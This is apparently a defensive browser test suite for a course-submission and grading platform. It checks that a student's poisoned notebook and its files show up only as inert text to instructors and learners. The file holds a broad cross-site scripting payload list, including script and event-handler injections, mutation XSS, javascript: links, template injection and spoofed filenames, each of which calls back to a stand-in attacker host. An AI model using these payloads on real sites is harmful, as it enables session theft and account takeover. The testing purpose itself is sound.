"""What a learner hands in, shown to her instructor and to herself: text, whatever she put into it.

Every place of a submission that she writes carries script, markup or an address that would tell the attacker's own
site that it was looked at; every page that shows something of a submission is opened, and the site hears nothing.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urljoin, urlsplit

import pytest
from playwright.sync_api import Page, Route

pytestmark = [
    *(pytest.mark.browser, pytest.mark.platform, pytest.mark.sandbox, pytest.mark.model),
    pytest.mark.timeout(900),
]

WORK = "/services/submissions/courses/testing/labs/clip/submissions"


def markup(site: str, place: str) -> str:
    """What runs or tells, in every way we know that a renderer of Markdown or HTML might let through."""
    told = f"{site}/{place}"
    return f"""
<script>document.title = "forged"; fetch("{told}-script")</script>
<img src="{told}-image" onerror='document.title = "forged"; fetch("{told}-onerror")'>
<svg onload='fetch("{told}-svg")'><script>fetch("{told}-svg-script")</script></svg>
<svg><animate onbegin='fetch("{told}-animate")' attributeName=x dur=1s></svg>
<iframe src="{told}-frame" srcdoc="<script>fetch('{told}-srcdoc')</script>"></iframe>
<object data="{told}-object"></object><embed src="{told}-embed">
<video src="{told}-video" poster="{told}-poster"></video>
<link rel="stylesheet" href="{told}-style">
<style>@import url("{told}-import"); * {{ background: url({told}-css) }}</style>
<meta http-equiv="refresh" content="0; url={told}-refresh"><base href="{told}-base/">
<details open ontoggle='fetch("{told}-toggle")'><input autofocus onfocus='fetch("{told}-focus")'></details>
<math><mtext><table><mglyph><style>
<img src=x onerror='fetch("{told}-mutation")'></style></mglyph></table></mtext></math>
<form action="{told}-form"><button>Save grade</button></form><a href="javascript:fetch('{told}-link')">your grade</a>
![picture]({told}-markdown) [link](javascript:fetch("{told}-markdown-link")) <{told}-automatic>
$$\\href{{javascript:fetch("{told}-math")}}{{x}} \\style{{background: url({told}-math-style)}}{{y}}$$
```
</code></pre></textarea></script><script>fetch("{told}-out-of-code")</script>
```
{{{{ constructor.constructor("fetch('{told}-template')")() }}}} {{% raw %}} <%= 7*7 %>
"""


def poisoned(released: bytes, site: str) -> bytes:
    """The released notebook with all of it: answers, outputs, attachments, metadata."""
    notebook = json.loads(released)
    evil = markup(site, "output")
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": evil, "text/plain": evil}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": markup(site, "svg")}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": f"fetch('{site}/js')"}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": markup(site, "md")}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/latex": markup(site, "latex")}},
        {"output_type": "stream", "name": "stdout", "text": evil},
        {"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]},
    ]
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        cell["metadata"] |= {"tags": [evil], "name": evil, "jupyter": {"source_hidden": evil}, "format": "text/html"}
        if cell["cell_type"] == "code":
            cell["outputs"], cell["execution_count"] = outputs, 1
            if about.get("grade_id") == "clip":
                # What a check says may carry what her code says.
                cell["source"] = f"def clip(x, low, high):\n    raise ValueError({markup(site, 'error')!r})"
        else:
            svg = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg'>{evil}</svg>".encode()).decode()
            cell["attachments"] = {'x" onerror="1': {"image/svg+xml": svg, "text/html": evil}}
            if about.get("solution"):
                cell["source"] = markup(site, "answer") + '\n![a](attachment:x" onerror="1)'
    notebook["metadata"] |= {"title": evil, "authors": [{"name": evil}]}
    notebook["metadata"]["kernelspec"] = {"name": "python3", "display_name": evil, "language": evil}
    notebook["metadata"]["language_info"] = {"name": evil, "mimetype": "text/html", "codemirror_mode": evil}
    return json.dumps(notebook).encode()


FILES = {
    "evil.html": "files",
    "evil.svg": "files",
    "x' onerror='alert(1)' y='.html": "names",
    "&lt;img src=x onerror=alert(1)&gt;.svg": "names",
    "javascript&colon;alert(1).js": "names",
    "{{7-7}}${7-7}.html": "names",
    "\u202egpj.lmth": "names",
}


@pytest.fixture(scope="module")
def handed_in(platform, ana, ana_token, collector) -> str:
    """The submission's number, once it is graded."""
    site = f"http://127.0.0.1:{collector.port}"
    as_program = {"Cookie": "", "Sec_Fetch_Site": "", "Authorization": f"token {ana_token}"}
    released = ana.get(WORK.removesuffix("submissions") + "release", **as_program)
    files = {name: base64.b64decode(content) for name, content in released.json()["files"].items()}
    files["clip.ipynb"] = poisoned(files["clip.ipynb"], site)
    files |= {name: markup(site, place).encode() for name, place in FILES.items()}
    body = {"files": {name: base64.b64encode(content).decode() for name, content in files.items()}}
    answer = ana.ask("POST", WORK, json.dumps(body).encode(), Content_Type="application/json", **as_program)
    assert answer.status in (200, 201), answer.text
    id_ = answer.json()["id"]
    end = time.monotonic() + 240
    while True:
        shown = ana.get(f"/services/submissions/submissions/{id_}", **as_program).json()
        if shown["state"] == "graded":
            return str(id_)
        assert time.monotonic() < end, shown["state"]
        time.sleep(0.5)


def _is_elsewhere(url: str) -> bool:
    host = urlsplit(url).hostname or ""
    return url.startswith("http") and host != "localhost" and not host.endswith(".localhost")


@dataclass
class Watched:
    """A page, and whatever happened on it that nobody of the platform's made happen."""

    page: Page
    happened: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", lambda dialog: (self.happened.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("popup", lambda popup: self.happened.append(f"popup {popup.url}"))
        self.page.context.route(_is_elsewhere, self._asked)

    def _asked(self, route: Route) -> None:
        self.happened.append(f"asked {route.request.url}")
        # The attacker's own site may hear it, and will say so; nothing leaves this machine.
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            route.abort()

    def look(self, address: str) -> None:
        """Opens it, looks at everything, and puts the mouse and the focus everywhere."""
        self.page.goto(address)
        self.page.wait_for_load_state("networkidle")
        self.page.mouse.wheel(0, 100_000)
        for _ in range(10):
            self.page.keyboard.press("Tab")
        self.page.wait_for_timeout(300)
        assert self.page.title() != "forged", address
        live = (
            "[onerror], [onload], [ontoggle], [onfocus], [onbegin], a[href^='javascript:' i], base[href*='127.0.0.1']"
        )
        assert self.page.locator(live).count() == 0, address


@pytest.fixture
def watched(sign_in) -> Callable[[str], Watched]:
    return lambda username: Watched(sign_in(username))


@pytest.fixture(autouse=True)
def silent(collector) -> Iterator[None]:
    collector.seen.clear()
    yield
    assert collector.seen == []


def test_formgrader_shows_it_to_the_instructor_as_text(platform, handed_in: str, watched, hosts):
    maria = watched("maria")
    address = hosts.formgrader("testing")
    for path in (
        "gradebook",
        "gradebook/clip",
        "gradebook/clip/clip",
        "manage_students",
        "manage_students/ana",
        "manage_students/ana/clip",
        "manage_assignments",
        "manage_submissions/clip",
    ):
        maria.look(f"{address}formgrader/{path}")
    maria.page.goto(f"{address}formgrader/gradebook/clip/clip")
    maria.page.wait_for_load_state("networkidle")
    links = {link.get_attribute("href") for link in maria.page.locator("a[href*='/formgrader/submissions/']").all()}
    hers = 0
    for link in sorted(filter(None, links)):
        maria.look(urljoin(address, link))
        hers += maria.page.get_by_text("answer-script").count()
    assert links
    assert maria.page.locator("input.score").count()
    assert hers, "her answer is not shown at all: nothing was tried"
    assert maria.happened == []


def test_the_pages_show_it_to_the_instructor_and_the_learner_as_text(platform, handed_in: str, watched):
    pages = f"{platform.url}/services/labkit/"
    for username, paths in (
        ("maria", ("", "arrivals", "labs/testing/clip")),
        ("ana", ("", "labs/testing/clip", "labs/testing/clip/result")),
    ):
        reader = watched(username)
        for path in paths:
            reader.look(pages + path)
        assert reader.happened == [], username


def test_a_receipt_is_saved_and_never_shown_as_a_page(platform, handed_in: str, ana):
    answer = ana.get(f"/services/labkit/receipts/{handed_in}.json")

    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.mark.parametrize("name", list(FILES))
def test_formgrader_serves_no_file_of_hers_as_a_page(platform, handed_in: str, maria, hosts, name: str):
    """Her other files are kept with her submission; none is a page of formgrader's origin."""
    from urllib.parse import quote

    maria.follow(f"{hosts.formgrader('testing')}formgrader/gradebook")
    for place in ("submitted", "autograded"):
        for way in ("files", "view", "nbconvert/html", "formgrader/submissions/x"):
            answer = maria.get(
                f"{hosts.formgrader('testing')}{way}/{place}/ana/clip/{quote(name)}", Sec_Fetch_Mode="navigate"
            )
            policy = answer.headers["Content-Security-Policy"] or ""
            assert answer.status in (302, 400, 403, 404) or "sandbox" in policy, (way, place)
